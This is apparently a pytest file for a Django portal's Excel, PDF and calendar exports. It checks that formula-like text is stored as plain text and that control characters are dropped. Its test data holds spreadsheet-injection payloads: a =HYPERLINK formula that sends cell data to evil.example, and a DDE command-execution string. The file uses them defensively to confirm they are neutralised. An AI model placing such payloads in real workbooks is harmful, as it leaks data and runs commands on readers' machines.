"""Exports store what people typed as text: never a live formula, never a crash.

A title beginning with «=» written into a cell as it is becomes a formula that runs in the
reader's Excel (``=HYPERLINK("http://…?leak="&A1, …)``, ``=cmd|' /C calc'!A0``); a control
character in stored text made openpyxl refuse the whole workbook, and an approved plan cannot be
edited to remove it. Every workbook the portal writes goes through one helper
(`reports.xlsx.set_cell`); the PDF and the calendar must take the same text.
"""

import datetime
import io

import pytest
from django.urls import reverse
from icalendar import Calendar
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from reports.xlsx import plan_xlsx, row_cells, set_cell, write_cell
from roadmaps.importers import parse_document
from roadmaps.models import Roadmap
from selfdiag.models import Round
from tests.factories import (
    add_responsible,
    calendar_feed_token,
    make_item,
    make_methodology,
    make_party,
    make_round,
    make_sample_plan,
    make_scored_submissions,
    make_section,
)
from tests.test_report_xlsx import expected_sections, parsed_sections

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
DDE = "=cmd|' /C calc'!A0"
LEADING = ["+7 (812) 555-01-01", "-1+2", "@SUM(A1:A2)", "=1+1"]


def reloaded(data: bytes):
    return load_workbook(io.BytesIO(data))


def cells_with(workbook, value):
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == value
    ]


# The helper -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [HYPERLINK, DDE, *LEADING])
def test_text_that_looks_like_a_formula_is_stored_as_text(text):
    workbook = Workbook()
    write_cell(workbook.active, 1, 1, text)
    buffer = io.BytesIO()
    workbook.save(buffer)

    cell = reloaded(buffer.getvalue()).active["A1"]

    assert (cell.value, cell.data_type) == (text, "s")


def test_write_only_rows_store_text_as_text_and_keep_numbers():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(row_cells(sheet, ["школа\x01", 7, HYPERLINK, 42, 1.5, None, "обычный текст"]))
    sheet.append(row_cells(sheet, [3, "=1+1"]))
    buffer = io.BytesIO()
    workbook.save(buffer)

    first, second = reloaded(buffer.getvalue()).active.iter_rows()

    assert [(c.value, c.data_type) for c in first] == [
        ("школа", "s"),
        (7, "n"),
        (HYPERLINK, "s"),
        (42, "n"),
        (1.5, "n"),
        (None, "n"),
        ("обычный текст", "s"),
    ]
    assert [c.quotePrefix for c in first] == [False, False, True, False, False, False, False]
    assert [(c.value, c.data_type) for c in second[:2]] == [(3, "n"), ("=1+1", "s")]


def test_characters_a_workbook_cannot_hold_are_dropped_not_fatal():
    workbook = Workbook()
    cell = set_cell(workbook.active["A1"], "План\x0bна\x01 2024\x1f год\tи\nдалее")
    buffer = io.BytesIO()
    workbook.save(buffer)

    assert cell.value == "Планна 2024 год\tи\nдалее"
    assert reloaded(buffer.getvalue()).active["A1"].value == "Планна 2024 год\tи\nдалее"


# The plan -------------------------------------------------------------------------------------


@pytest.fixture
def hostile_plan(world):
    roadmap = make_sample_plan(world.institute, items=6)
    section = make_section(roadmap, number="5", title=DDE, position=10)
    party = make_party(roadmap, '=HYPERLINK("http://evil.example","ИРО")')
    item = make_item(section, title=HYPERLINK, deadline_text=DDE, result="@SUM(A1:A2)")
    add_responsible(item, party)
    make_item(section, title="-1+2 совещания", result="+7 (812) 555-01-01")
    return roadmap


def test_plan_workbook_keeps_every_formula_like_text_as_text(hostile_plan):
    workbook = reloaded(plan_xlsx(hostile_plan))

    party = '=HYPERLINK("http://evil.example","ИРО")'
    for text in [HYPERLINK, DDE, party, "@SUM(A1:A2)", "-1+2 совещания", "+7 (812) 555-01-01"]:
        found = cells_with(workbook, text)
        assert found, text
        assert all(cell.data_type == "s" for cell in found), text
    assert all(
        cell.data_type != "f"
        for row in workbook.active.iter_rows()
        for cell in row
        if cell.value is not None
    )


def test_plan_title_that_looks_like_a_formula_is_text_in_the_workbook(world):
    roadmap = make_sample_plan(world.institute, items=1, title=HYPERLINK)

    workbook = reloaded(plan_xlsx(roadmap))

    (title,) = cells_with(workbook, HYPERLINK)
    assert title.data_type == "s"
    assert workbook.properties.title == HYPERLINK


def test_plan_workbook_with_formula_like_text_imports_back_as_the_same_plan(hostile_plan):
    parsed = parse_document(plan_xlsx(hostile_plan), filename="план.xlsx")

    assert parsed.title == hostile_plan.title
    assert parsed_sections(parsed.sections) == expected_sections(hostile_plan)


@pytest.fixture
def plan_with_control_characters(world):
    roadmap = make_sample_plan(
        world.institute,
        items=3,
        title="План\x0b мероприятий\x01 на 2024 год",
        status=Roadmap.Status.APPROVED,
        approval_kind="распоряжение",
        approval_issuer="Комитет общего и профессионального образования",
        approval_date=datetime.date(2024, 1, 10),
        approval_number="12\x01-р",
    )
    section = roadmap.sections.order_by("position").first()
    party = make_party(roadmap, "Иванова\x0b А.А.")
    item = make_item(
        section,
        title="Совещание\x0b с координаторами\x01",
        deadline_text="в течение\x0b года",
        deadline_kind="continuous",
        result="Протокол\x1f",
    )
    add_responsible(item, party)
    return roadmap


def test_plan_workbook_of_stored_control_characters_downloads(
    world, client_for, plan_with_control_characters
):
    response = client_for(world.operator).get(
        reverse("reports:roadmap-xlsx", args=[plan_with_control_characters.pk])
    )

    assert response.status_code == 200
    workbook = reloaded(response.getvalue())
    assert cells_with(workbook, "Совещание с координаторами")
    assert cells_with(workbook, "План мероприятий на 2024 год")
    assert workbook.properties.title == "План мероприятий на 2024 год"
    assert any("№ 12-р" in str(cell.value) for cell in cells_with_text(workbook, "12-р"))


def cells_with_text(workbook, fragment):
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and fragment in cell.value
    ]


def test_plan_pdf_of_stored_control_characters_downloads(
    world, client_for, plan_with_control_characters
):
    response = client_for(world.operator).get(
        reverse("reports:roadmap-pdf", args=[plan_with_control_characters.pk])
    )

    assert response.status_code == 200
    text = " ".join(
        page.extract_text() for page in PdfReader(io.BytesIO(response.getvalue())).pages
    )
    assert "координаторами" in " ".join(text.split())


def test_calendar_of_stored_control_characters_is_a_valid_feed(
    world, client_for, plan_with_control_characters
):
    url = reverse(
        "reports:roadmap-calendar-feed",
        args=[plan_with_control_characters.pk, calendar_feed_token(world.operator)],
    )

    response = client_for(world.operator).get(url)

    assert response.status_code == 200
    assert not any(0 < byte < 32 and byte not in (9, 10, 13) for byte in response.content)
    calendar = Calendar.from_ical(response.content)
    summaries = [str(event["SUMMARY"]) for event in calendar.walk("VEVENT")]
    assert any("Совещание с координаторами" in summary for summary in summaries), summaries


# Self-diagnosis and the deficit map -----------------------------------------------------------


@pytest.fixture
def hostile_round(world):
    world.school.short_name = HYPERLINK
    world.school.save(update_fields=["short_name"])
    world.sibling_school.short_name = "Школа\x0b № 2\x01"
    world.sibling_school.save(update_fields=["short_name"])
    round_ = make_round(
        world.region,
        [world.school, world.sibling_school],
        make_methodology(),
        name=DDE,
    )
    make_scored_submissions(
        round_,
        {
            world.school: {"Z1": "yes", "Z2": "full"},
            world.sibling_school: {"Z1": "no"},
        },
    )
    return round_


def test_round_template_keeps_formula_like_names_as_text(world, client_for, hostile_round):
    response = client_for(world.operator).get(
        reverse("selfdiag:round-template", args=[hostile_round.pk])
    )

    assert response.status_code == 200
    workbook = reloaded(b"".join(response.streaming_content))
    (school,) = cells_with(workbook, HYPERLINK)
    assert school.data_type == "s"
    assert cells_with(workbook, "Школа № 2")
    (help_line,) = cells_with_text(workbook, DDE)
    assert help_line.data_type == "s"


def test_round_results_keep_formula_like_names_as_text(world, client_for, hostile_round):
    response = client_for(world.operator).get(
        reverse("selfdiag:round-export", args=[hostile_round.pk])
    )

    assert response.status_code == 200
    workbook = reloaded(b"".join(response.streaming_content))
    (school,) = cells_with(workbook, HYPERLINK)
    assert school.data_type == "s"
    (title,) = cells_with_text(workbook, DDE)
    assert title.data_type == "s" and title.value.startswith(DDE)
    assert cells_with(workbook, "Школа № 2")


def test_deficit_map_workbook_keeps_formula_like_names_as_text(world, client_for, hostile_round):
    response = client_for(world.operator).get(
        reverse("reports:deficit-map-xlsx"), {"round": hostile_round.pk}
    )

    assert response.status_code == 200
    workbook = reloaded(response.content)
    (school,) = cells_with(workbook, HYPERLINK)
    assert school.data_type == "s"
    assert cells_with(workbook, "Школа № 2")
    assert all(cell.data_type == "s" for cell in cells_with_text(workbook, DDE))
    assert cells_with_text(workbook, DDE)
    assert Round.objects.get(pk=hostile_round.pk).name == DDE


def test_deficit_map_pdf_of_stored_control_characters_downloads(world, client_for, hostile_round):
    response = client_for(world.operator).get(
        reverse("reports:deficit-map-pdf"), {"round": hostile_round.pk}
    )

    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")
